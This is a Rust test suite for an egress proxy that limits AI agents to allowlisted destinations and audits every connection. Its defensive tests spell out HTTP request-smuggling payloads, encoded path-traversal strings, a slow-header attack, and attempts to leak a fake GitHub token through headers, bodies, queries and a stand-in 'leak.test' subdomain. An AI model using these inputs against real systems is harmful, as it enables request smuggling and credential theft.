//! The egress proxy: agents reach the outside only through it, with a token
//! issued for it, to the destinations their allowlist names; every
//! connection is decided and audited.

use crate::common::Harness;
use axum::routing::{get, post};
use serde_json::Value;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

fn free_port() -> u16 {
    std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port()
}

async fn proxied(proxy: &str, user_token: Option<&str>) -> reqwest::Client {
    let mut p = reqwest::Proxy::http(proxy).unwrap();
    if let Some(t) = user_token {
        p = p.basic_auth("agent", t);
    }
    reqwest::Client::builder().proxy(p).timeout(Duration::from_secs(10)).build().unwrap()
}

/// A web API on loopback; its port.
async fn web_api() -> u16 {
    let web = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = web.local_addr().unwrap().port();
    let app = axum::Router::new()
        .route("/v1/data", get(|| async { "data" }))
        .route("/v1/echo", post(|body: String| async move { body }))
        .route("/admin", get(|| async { "admin" }));
    tokio::spawn(async move { axum::serve(web, app).await });
    port
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn agents_reach_only_their_allowlisted_destinations_through_the_proxy() {
    // A web API and a TCP echo service on loopback.
    let web_port = web_api().await;
    let echo = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let echo_port = echo.local_addr().unwrap().port();
    tokio::spawn(async move {
        while let Ok((mut s, _)) = echo.accept().await {
            tokio::spawn(async move {
                let mut buf = [0u8; 1024];
                while let Ok(n) = s.read(&mut buf).await {
                    if n == 0 || s.write_all(&buf[..n]).await.is_err() {
                        break;
                    }
                }
            });
        }
    });

    let proxy_port = free_port();
    let extra = format!(
        r#"[egress]
listen = "127.0.0.1:{proxy_port}"
[[egress.allow]]
agent = "fetcher"
host = "127.0.0.1"
port = {web_port}
path_prefix = "/v1/"
allow_private = true
[[egress.allow]]
agent = "fetcher"
host = "127.0.0.1"
port = {echo_port}
allow_private = true
[[egress.allow]]
agent = "fetcher"
host = "localhost"
port = {web_port}
[[egress.allow]]
agent = "crawler"
host = "127.0.0.1"
port = {web_port}
path_prefix = "/v1/data"
allow_private = true
"#
    );
    let h = Harness::start_with("", &extra, &[]);
    let proxy = format!("http://127.0.0.1:{proxy_port}");
    let (id, key) = h.register("fetcher", "onboarding/customer_lookup", 1, None);
    let (other_id, other_key) = h.register("other", "onboarding/customer_lookup", 1, None);
    let mut fetcher = h.client(&id, &key);
    let token = loop {
        match fetcher.fetch_token_for(&format!("{}/egress", h.base), None).await {
            Ok(t) => break t.access_token,
            Err(e) if e.to_string().contains("unknown agent") => tokio::time::sleep(Duration::from_millis(20)).await,
            Err(e) => panic!("{e}"),
        }
    };
    let web_url = format!("http://127.0.0.1:{web_port}");
    let err = h.client(&id, &key).fetch_token_for("https://elsewhere.example/mcp", None).await.unwrap_err().to_string();
    assert!(err.contains("invalid_target") && err.contains(&format!("{}/egress", h.base)), "names the resources it serves: {err}");

    // Allowed: plain HTTP under the path prefix, with a body.
    let c = proxied(&proxy, Some(&token)).await;
    let r = c.get(format!("{web_url}/v1/data")).send().await.unwrap();
    assert_eq!((r.status().as_u16(), r.text().await.unwrap()), (200, "data".to_string()));
    let r = c.post(format!("{web_url}/v1/echo")).body("hello through the proxy").send().await.unwrap();
    assert_eq!(r.text().await.unwrap(), "hello through the proxy");

    // Refused: outside the path prefix; a host name that resolves to
    // loopback (DNS-level denial); no credentials; another agent; a token
    // issued for /mcp instead of the proxy.
    let r = c.get(format!("{web_url}/admin")).send().await.unwrap();
    assert_eq!(r.status(), 403);
    assert!(r.text().await.unwrap().contains("not in agent fetcher's egress allowlist"));
    let r = c.get(format!("http://localhost:{web_port}/v1/data")).send().await.unwrap();
    assert_eq!(r.status(), 403);
    assert!(r.text().await.unwrap().contains("DNS-level denial"));
    let r = proxied(&proxy, None).await.get(format!("{web_url}/v1/data")).send().await.unwrap();
    assert_eq!(r.status(), 407);
    assert!(r.headers().get("proxy-authenticate").is_some());
    let mut other = h.client(&other_id, &other_key);
    let other_token = other.fetch_token_for(&format!("{}/egress", h.base), None).await.unwrap().access_token;
    let r = proxied(&proxy, Some(&other_token)).await.get(format!("{web_url}/v1/data")).send().await.unwrap();
    assert_eq!(r.status(), 403, "the allowlist is per agent");
    let mcp_token = h.client(&id, &key).fetch_token(None, None).await.unwrap().access_token;
    let r = proxied(&proxy, Some(&mcp_token)).await.get(format!("{web_url}/v1/data")).send().await.unwrap();
    assert_eq!(r.status(), 407, "a token for /mcp is not a token for the proxy");

    // A CONNECT tunnel (bytes sent right after the head are not lost).
    let connect = |port: u16, token: String| async move {
        let mut s = tokio::net::TcpStream::connect(("127.0.0.1", proxy_port)).await.unwrap();
        let head = format!("CONNECT 127.0.0.1:{port} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nProxy-Authorization: Bearer {token}\r\n\r\nping");
        s.write_all(head.as_bytes()).await.unwrap();
        let mut got = Vec::new();
        let mut buf = [0u8; 1024];
        while !String::from_utf8_lossy(&got).contains("\r\n\r\n") {
            let n = s.read(&mut buf).await.unwrap();
            assert!(n > 0, "closed: {}", String::from_utf8_lossy(&got));
            got.extend_from_slice(&buf[..n]);
        }
        let text = String::from_utf8_lossy(&got).to_string();
        let status = text.split(' ').nth(1).unwrap().to_string();
        let after = text.split_once("\r\n\r\n").unwrap().1.to_string();
        (status, after, s)
    };
    let (status, mut after, mut s) = connect(echo_port, token.clone()).await;
    assert_eq!(status, "200");
    while after.len() < 4 {
        let mut buf = [0u8; 64];
        let n = s.read(&mut buf).await.unwrap();
        after.push_str(&String::from_utf8_lossy(&buf[..n]));
    }
    assert_eq!(after, "ping", "the echo service answered through the tunnel");
    let (status, _, _) = connect(web_port, token.clone()).await;
    assert_eq!(status, "403", "a rule with a path prefix never admits a tunnel");

    // A sub-agent exchanges its parent's /mcp token for a proxy token
    // (RFC 8693 with an RFC 8707 resource); its own allowlist applies. A
    // proxy token is not a subject token: proxy tokens are bearer.
    let (crawler_id, crawler_key) = h.register("crawler", "onboarding/customer_lookup", 1, Some(&id));
    let egress_resource = format!("{}/egress", h.base);
    let sub_token = loop {
        match h.client(&crawler_id, &crawler_key).exchange(&mcp_token, None, Some(&egress_resource)).await {
            Ok(t) => break t.access_token,
            Err(e) if e.to_string().contains("unknown agent") => tokio::time::sleep(Duration::from_millis(20)).await,
            Err(e) => panic!("{e}"),
        }
    };
    let sub = proxied(&proxy, Some(&sub_token)).await;
    let r = sub.get(format!("{web_url}/v1/data")).send().await.unwrap();
    assert_eq!(r.status(), 200);
    let r = sub.post(format!("{web_url}/v1/echo")).body("x").send().await.unwrap();
    assert_eq!(r.status(), 403, "the sub-agent's own allowlist, not its parent's");
    let e = h.client(&crawler_id, &crawler_key).exchange(&token, None, Some(&egress_resource)).await.unwrap_err().to_string();
    assert!(e.contains("invalid_grant") && e.contains("audience"), "{e}");

    // The agent revokes a proxy token (RFC 7009): the proxy refuses it next.
    let spare = h.client(&id, &key).fetch_token_for(&egress_resource, None).await.unwrap().access_token;
    let r = proxied(&proxy, Some(&spare)).await.get(format!("{web_url}/v1/data")).send().await.unwrap();
    assert_eq!(r.status(), 200);
    h.client(&id, &key).revoke(&spare).await.unwrap();
    let r = proxied(&proxy, Some(&spare)).await.get(format!("{web_url}/v1/data")).send().await.unwrap();
    assert_eq!(r.status(), 407, "a revoked proxy token");
    assert!(r.text().await.unwrap().contains("revoked"));

    // Refused by policy although allowlisted: a credential in the URL is
    // the critical credential-exfiltration guardrail, and as for a tool call
    // the agent is contained at once: its next connection and its
    // sub-agent's are refused.
    let r = c.get(format!("{web_url}/v1/data?token=ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8")).send().await.unwrap();
    assert_eq!(r.status(), 403);
    assert!(r.text().await.unwrap().contains("refused by policy"));
    for (who, client) in [("the agent", &c), ("its sub-agent", &sub)] {
        let r = client.get(format!("{web_url}/v1/data")).send().await.unwrap();
        let status = r.status().as_u16();
        let text = r.text().await.unwrap();
        assert!(
            (status == 403 && text.contains("kill switch")) || (status == 407 && (text.contains("revoked") || text.contains("suspended"))),
            "{who} still admitted after containment: {status} {text}"
        );
    }

    // Failed proxy authentications are audited in aggregate, per source and
    // window; every other connection decision one by one; the token never.
    let failed = h.audited("failed proxy connections").await;
    assert_eq!(failed["event"]["kind"], "authn_failure", "{failed}");
    // Let the last window's tallies be written too.
    tokio::time::sleep(std::time::Duration::from_millis(1_200)).await;
    let audit = h.cli(&["audit", "export"]);
    // How many failed proxy authentications the aggregated records count.
    let failed_auth: u64 = audit
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap()["event"].clone())
        .filter_map(|e| e["reason"].as_str().filter(|r| r.contains("failed proxy connections")).map(str::to_string))
        .map(|r| {
            let failed: u64 = r.split(' ').next().unwrap().parse().unwrap();
            failed + r.split_once(", and ").map_or(0, |(_, t)| t.split(' ').next().unwrap().parse().unwrap())
        })
        .sum();
    let egress: Vec<Value> = audit
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .filter(|r| r["event"]["kind"] == "egress_connection")
        .map(|r| r["event"].clone())
        .collect();
    let allowed = egress.iter().filter(|e| e["decision"] == "allow").count();
    // The agent's GET and POST, its tunnel, the spare token's GET, and the
    // sub-agent's GET.
    assert_eq!(allowed, 5, "{egress:#?}");
    assert!(egress.iter().any(|e| e["decision"] == "allow" && e["action"] == "egress:CONNECT" && e["tool"] == format!("egress/127.0.0.1:{echo_port}")));
    assert!(egress.iter().any(|e| e["decision"] == "allow" && e["action"] == "egress:GET /v1/data"));
    let delegated = egress.iter().find(|e| e["agent"] == crawler_id && e["decision"] == "allow").unwrap();
    assert_eq!(delegated["delegation"], serde_json::json!([crawler_id, id]), "{delegated}");
    let denied = egress.iter().filter(|e| e["decision"] == "deny").count() as u64;
    assert!(denied + failed_auth >= 7, "{denied} refused connections on record and {failed_auth} failed authentications in aggregate");
    assert!(egress.iter().any(|e| e["reason"].as_str().is_some_and(|r| r.contains("DNS-level denial"))));
    let leak = egress.iter().find(|e| e["reason"].as_str().is_some_and(|r| r.contains("refused by policy"))).unwrap();
    let kill = audit
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap()["event"].clone())
        .find(|e| e["kind"] == "containment" && e["agent"] == id && e["subject"] == "monitor")
        .unwrap_or_else(|| panic!("no automatic containment in the audit log"));
    assert!(kill["reason"].as_str().unwrap().contains("credential-exfiltration"), "{kill}");
    assert!(leak["policies"].as_array().unwrap().iter().any(|p| p == "credential-exfiltration"), "{leak}");
    assert!(leak["findings"].as_array().unwrap().iter().any(|f| f.as_str().unwrap().starts_with("args.secrets.")), "{leak}");
    assert!(egress.iter().filter(|e| e["decision"] == "allow").all(|e| e["policies"].as_array().unwrap().iter().any(|p| p == "egress-allowlisted")));
    assert!(!audit.contains("ghp_a1B2c3D4"), "the credential itself is not in the audit log");
    assert!(!audit.contains(&token[..40]));
    let ocsf = h.cli(&["audit", "export", "--format", "ocsf"]);
    assert!(ocsf.lines().any(|l| l.contains("\"class_uid\":4001")), "egress as OCSF Network Activity");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_sessions_taint_reaches_the_proxy() {
    let web_port = web_api().await;
    let proxy_port = free_port();
    let extra = format!(
        r#"[approvals]
hold_secs = 0
[egress]
listen = "127.0.0.1:{proxy_port}"
[[egress.allow]]
agent = "reader"
host = "127.0.0.1"
port = {web_port}
allow_private = true
"#
    );
    let h = Harness::start_with("", &extra, &[]);
    h.approve_demo_tools();
    let (id, key) = h.register("reader", "onboarding/*", 2, None);
    let mut agent = h.ready_client(&id, &key, None).await;
    let egress = format!("{}/egress", h.base);
    let proxy = format!("http://127.0.0.1:{proxy_port}");
    let url = format!("http://127.0.0.1:{web_port}/v1/data");
    let mail = serde_json::json!({ "to": "ops@example.com", "subject": "onboarding", "body": "customer signed up" });
    let r = agent.call_tool("onboarding__email_send", mail.clone()).await.unwrap();
    assert!(r.result().is_some(), "an internal e-mail from a clean session: {}", r.body);

    // A proxy token for the agent's task (the test harness's "test-task"):
    // fetching from the web taints the session as having read untrusted
    // content…
    let same_task = h.client(&id, &key).fetch_token_for(&egress, Some("test-task")).await.unwrap().access_token;
    let c = proxied(&proxy, Some(&same_task)).await;
    assert_eq!(c.get(&url).send().await.unwrap().status(), 200);
    // …so after reading customer data, mailing out is the lethal trifecta…
    let r = agent.call_tool("onboarding__customer_lookup", serde_json::json!({ "customer_id": "c-1001" })).await.unwrap();
    assert!(r.result().is_some(), "{}", r.body);
    let r = agent.call_tool("onboarding__email_send", mail).await.unwrap();
    assert_eq!(r.error_code(), Some(-32002), "{}", r.body);
    assert!(r.body["error"]["data"]["policies"].to_string().contains("lethal-trifecta"), "{}", r.body);
    // …and so is sending anything out through the proxy, which needs a
    // human: the proxy cannot wait for one and refuses.
    let r = c.get(&url).send().await.unwrap();
    assert_eq!(r.status(), 403);
    let text = r.text().await.unwrap();
    assert!(text.contains("lethal trifecta") && text.contains("approval"), "{text}");
    // A task label the agent picks is no way out: what it read follows it
    // (and the two refused exfiltration attempts raised its risk score).
    let other = h.client(&id, &key).fetch_token_for(&egress, Some("other-task")).await.unwrap().access_token;
    let r = proxied(&proxy, Some(&other)).await.get(&url).send().await.unwrap();
    assert_eq!(r.status(), 403);
    let text = r.text().await.unwrap();
    assert!(text.contains("lethal trifecta"), "{text}");
    let refused = h.cli(&["audit", "query", "--kind", "egress_connection", "--json"]);
    assert!(refused.lines().any(|l| l.contains("lethal-trifecta") && l.contains("\"deny\"")), "{refused}");
}

/// A plain TCP web server on loopback that answers every request with `ok`
/// and records every byte it receives; its port and the record.
async fn recording_upstream() -> (u16, std::sync::Arc<parking_lot::Mutex<String>>) {
    let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = l.local_addr().unwrap().port();
    let seen = std::sync::Arc::new(parking_lot::Mutex::new(String::new()));
    let record = seen.clone();
    tokio::spawn(async move {
        while let Ok((mut s, _)) = l.accept().await {
            let record = record.clone();
            tokio::spawn(async move {
                let mut got = Vec::new();
                let mut buf = [0u8; 4096];
                while !got.windows(4).any(|w| w == b"\r\n\r\n") {
                    match s.read(&mut buf).await {
                        Ok(0) | Err(_) => break,
                        Ok(n) => got.extend_from_slice(&buf[..n]),
                    }
                }
                let _ = s.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok").await;
                // Whatever else arrives (a smuggled second request) is recorded too.
                while let Ok(Ok(n)) = tokio::time::timeout(Duration::from_millis(300), s.read(&mut buf)).await {
                    if n == 0 {
                        break;
                    }
                    got.extend_from_slice(&buf[..n]);
                }
                record.lock().push_str(&String::from_utf8_lossy(&got));
            });
        }
    });
    (port, seen)
}

/// Send raw bytes to `port` and read the answer to its end: (status, text).
async fn raw(port: u16, bytes: &[u8]) -> (u16, String) {
    let mut s = tokio::net::TcpStream::connect(("127.0.0.1", port)).await.unwrap();
    s.write_all(bytes).await.unwrap();
    let mut got = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(20), s.read_to_end(&mut got)).await.expect("the proxy answers");
    let text = String::from_utf8_lossy(&got).to_string();
    let status = text.split(' ').nth(1).and_then(|s| s.parse().ok()).unwrap_or_else(|| panic!("no status in {text:?}"));
    (status, text)
}

/// An egress token for a newly registered agent.
async fn egress_token(h: &Harness, name: &str) -> (String, String) {
    let (id, key) = h.register(name, "onboarding/customer_lookup", 1, None);
    loop {
        match h.client(&id, &key).fetch_token_for(&format!("{}/egress", h.base), None).await {
            Ok(t) => break (id, t.access_token),
            Err(e) if e.to_string().contains("unknown agent") => tokio::time::sleep(Duration::from_millis(20)).await,
            Err(e) => panic!("{e}"),
        }
    }
}

fn egress_events(h: &Harness) -> Vec<Value> {
    h.cli(&["audit", "export"])
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap()["event"].clone())
        .filter(|e| e["kind"] == "egress_connection")
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn smuggled_requests_and_ambiguous_paths_never_reach_the_upstream() {
    let (up, seen) = recording_upstream().await;
    let proxy_port = free_port();
    let extra = format!(
        r#"[egress]
listen = "127.0.0.1:{proxy_port}"
max_body_bytes = 4096
[[egress.allow]]
agent = "fetcher"
host = "127.0.0.1"
port = {up}
path_prefix = "/v1/"
allow_private = true
"#
    );
    let h = Harness::start_with("", &extra, &[]);
    let (_, token) = egress_token(&h, "fetcher").await;
    let auth = format!("Host: 127.0.0.1:{up}\r\nProxy-Authorization: Bearer {token}\r\n");
    let smuggled = "GET /admin HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n";

    // What the upstream gets is rebuilt from the checked pieces: one request,
    // no proxy credentials or hop-by-hop headers, Connection: close.
    let ok = format!(
        "POST http://127.0.0.1:{up}/v1/echo HTTP/1.1\r\n{auth}Proxy-Connection: keep-alive\r\nConnection: keep-alive, X-Hop\r\nX-Hop: 1\r\nX-Kept: yes\r\nContent-Length: 2\r\n\r\nhi{smuggled}"
    );
    let (status, text) = raw(proxy_port, ok.as_bytes()).await;
    assert_eq!(status, 200, "{text}");
    // The upstream records a connection once the proxy closes it.
    for _ in 0..250 {
        if !seen.lock().is_empty() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    let upstream = seen.lock().clone();
    assert_eq!(
        upstream,
        format!("POST /v1/echo HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\nX-Kept: yes\r\nContent-Length: 2\r\nConnection: close\r\n\r\nhi"),
        "bytes after the declared body are not forwarded"
    );

    let variants = [
        ("a bare LF carrying Content-Length", format!("POST http://127.0.0.1:{up}/v1/echo HTTP/1.1\r\n{auth}X-A: a\nContent-Length: 41\r\n\r\n{smuggled}")),
        ("obs-fold", format!("POST http://127.0.0.1:{up}/v1/echo HTTP/1.1\r\n{auth}X-A: a\r\n Content-Length: 41\r\n\r\n{smuggled}")),
        ("duplicate Content-Length", format!("POST http://127.0.0.1:{up}/v1/echo HTTP/1.1\r\n{auth}Content-Length: 0\r\nContent-Length: 41\r\n\r\n{smuggled}")),
        (
            "Content-Length and Transfer-Encoding",
            format!("POST http://127.0.0.1:{up}/v1/echo HTTP/1.1\r\n{auth}Content-Length: 41\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{smuggled}"),
        ),
        ("Transfer-Encoding: chunked", format!("POST http://127.0.0.1:{up}/v1/echo HTTP/1.1\r\n{auth}Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n{smuggled}")),
        (
            "a Host of another destination",
            format!("GET http://127.0.0.1:{up}/v1/data HTTP/1.1\r\nHost: admin.internal\r\nProxy-Authorization: Bearer {token}\r\n\r\n"),
        ),
    ];
    for (what, req) in &variants {
        let (status, text) = raw(proxy_port, req.as_bytes()).await;
        assert_eq!(status, 400, "{what}: {text}");
    }
    for (what, path) in [
        ("..;", "/v1/..;/admin"),
        ("overlong UTF-8 dots", "/v1/%c0%ae%c0%ae/admin"),
        ("full-width dots", "/v1/%ef%bc%8e%ef%bc%8e/admin"),
        ("double-encoded dots", "/v1/%252e%252e/admin"),
        ("upper-case encoded dots", "/v1/%2E%2E/admin"),
    ] {
        let req = format!("GET http://127.0.0.1:{up}{path} HTTP/1.1\r\n{auth}\r\n");
        let (status, text) = raw(proxy_port, req.as_bytes()).await;
        assert_eq!(status, 400, "{what}: {text}");
        assert!(text.contains("send it in one plain spelling"), "{text}");
    }
    let big = format!("POST http://127.0.0.1:{up}/v1/echo HTTP/1.1\r\n{auth}Content-Length: 5000\r\n\r\n{}", "x".repeat(5000));
    let (status, text) = raw(proxy_port, big.as_bytes()).await;
    assert_eq!(status, 413, "{text}");
    assert!(text.contains("egress.max_body_bytes"), "{text}");

    tokio::time::sleep(Duration::from_millis(400)).await;
    assert_eq!(seen.lock().matches(" HTTP/1.1\r\n").count(), 1, "only the first, valid request reached the upstream");
    let refused = egress_events(&h).into_iter().filter(|e| e["decision"] == "deny").count();
    assert_eq!(refused, 6, "ambiguous paths and the oversized body are audited refusals");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn secrets_leave_through_no_part_of_a_request() {
    let (up, seen) = recording_upstream().await;
    let proxy_port = free_port();
    let extra = format!(
        r#"[egress]
listen = "127.0.0.1:{proxy_port}"
[[egress.allow]]
agent = "*"
host = "127.0.0.1"
port = {up}
allow_private = true
[[egress.allow]]
agent = "*"
host = "*.leak.test"
port = {up}
"#
    );
    let h = Harness::start_with("", &extra, &[]);
    let secret = "ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8";
    let url = format!("http://127.0.0.1:{up}/v1/data");
    let cases = [
        ("in-header", format!("GET {url} HTTP/1.1\r\nX-Api-Key: {secret}\r\n")),
        ("in-body", format!("POST {url} HTTP/1.1\r\nContent-Length: {}\r\n", secret.len() + 6)),
        ("in-query", format!("GET {url}?q=%67hp_{} HTTP/1.1\r\n", &secret[4..])),
        ("in-host", format!("GET http://{secret}.leak.test:{up}/ HTTP/1.1\r\n")),
        ("encoded-host", format!("GET http://4a7f3c9e1b2d8f6a0c5e7b9d.leak.test:{up}/ HTTP/1.1\r\n")),
    ];
    for (name, head) in &cases {
        let (id, token) = egress_token(&h, name).await;
        let body = if *name == "in-body" { format!("token={secret}") } else { String::new() };
        let req = format!("{head}Proxy-Authorization: Bearer {token}\r\n\r\n{body}");
        let (status, text) = raw(proxy_port, req.as_bytes()).await;
        assert_eq!(status, 403, "{name}: {text}");
        assert!(text.contains("refused by policy"), "{name}: {text}");
        let record = egress_events(&h).into_iter().find(|e| e["agent"] == id).unwrap();
        assert_eq!(record["decision"], "deny", "{record}");
        assert!(record["policies"].as_array().unwrap().iter().any(|p| p == "credential-exfiltration"), "{name}: {record}");
        assert!(record["findings"].as_array().unwrap().iter().any(|f| f.as_str().unwrap().starts_with("args.secrets.")), "{name}: {record}");
    }
    let host_record =
        egress_events(&h).into_iter().find(|e| e["reason"].as_str().is_some_and(|r| r.contains("refused")) && e["tool"] == format!("egress/*.leak.test:{up}"));
    assert!(host_record.is_some(), "a host that is data is recorded by the rule it matched");
    let audit = h.cli(&["audit", "export"]);
    for value in ["a1B2c3D4e5F6", "a1b2c3d4e5f6", "4a7f3c9e1b2d8f6a0c5e7b9d"] {
        assert!(!audit.contains(value), "{value} is in the audit log");
    }
    assert!(seen.lock().is_empty(), "nothing reached the upstream");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn slow_heads_are_cut_off_and_connections_are_capped() {
    let proxy_port = free_port();
    let extra = format!(
        r#"[egress]
listen = "127.0.0.1:{proxy_port}"
max_connections = 2
head_timeout_secs = 1
"#
    );
    let h = Harness::start_with("", &extra, &[]);
    // A trickles a head a byte at a time, B sends nothing: both hold a slot.
    let connect = |port: u16| tokio::net::TcpStream::connect(("127.0.0.1", port));
    let trickle = |mut s: tokio::net::TcpStream, head: &'static [u8]| async move {
        let mut sent = 0;
        let mut got = Vec::new();
        for b in head.iter().cycle().take(120) {
            if s.write_all(&[*b]).await.is_err() {
                break;
            }
            sent += 1;
            let mut buf = [0u8; 1024];
            match tokio::time::timeout(Duration::from_millis(250), s.read(&mut buf)).await {
                Ok(Ok(0)) | Ok(Err(_)) => break,
                Ok(Ok(n)) => got.extend_from_slice(&buf[..n]),
                Err(_) => {}
            }
        }
        (sent, String::from_utf8_lossy(&got).to_string())
    };
    let a = connect(proxy_port).await.unwrap();
    let b = connect(proxy_port).await.unwrap();
    let a = tokio::spawn(trickle(a, b"GET http://127.0.0.1:9/v1/data HTTP/1.1\r\nX-Pad: "));
    // Over the cap: refused at once, before any byte of a head.
    let (status, text) = raw(proxy_port, b"").await;
    assert_eq!(status, 503, "{text}");
    assert!(text.contains("egress.max_connections"), "{text}");
    let (sent, answer) = a.await.unwrap();
    assert!(answer.starts_with("HTTP/1.1 408"), "{answer}");
    assert!(sent < 120, "the head was cut off while bytes still trickled in");
    drop(b);
    // Slots come back once the slow connections are cut off.
    let mut status = 503;
    for _ in 0..100 {
        status = raw(proxy_port, b"GET / HTTP/1.1\r\n\r\n").await.0;
        if status != 503 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    assert_eq!(status, 400);

    // The main listener bounds the time to receive a head too.
    let main = h.base.trim_start_matches("http://").to_string();
    let main_port: u16 = main.rsplit(':').next().unwrap().parse().unwrap();
    let (sent, answer) = trickle(connect(main_port).await.unwrap(), b"POST /mcp HTTP/1.1\r\nX-Pad: ").await;
    assert!(sent < 120, "the main listener still reads a head after {sent} trickled bytes: {answer}");
}
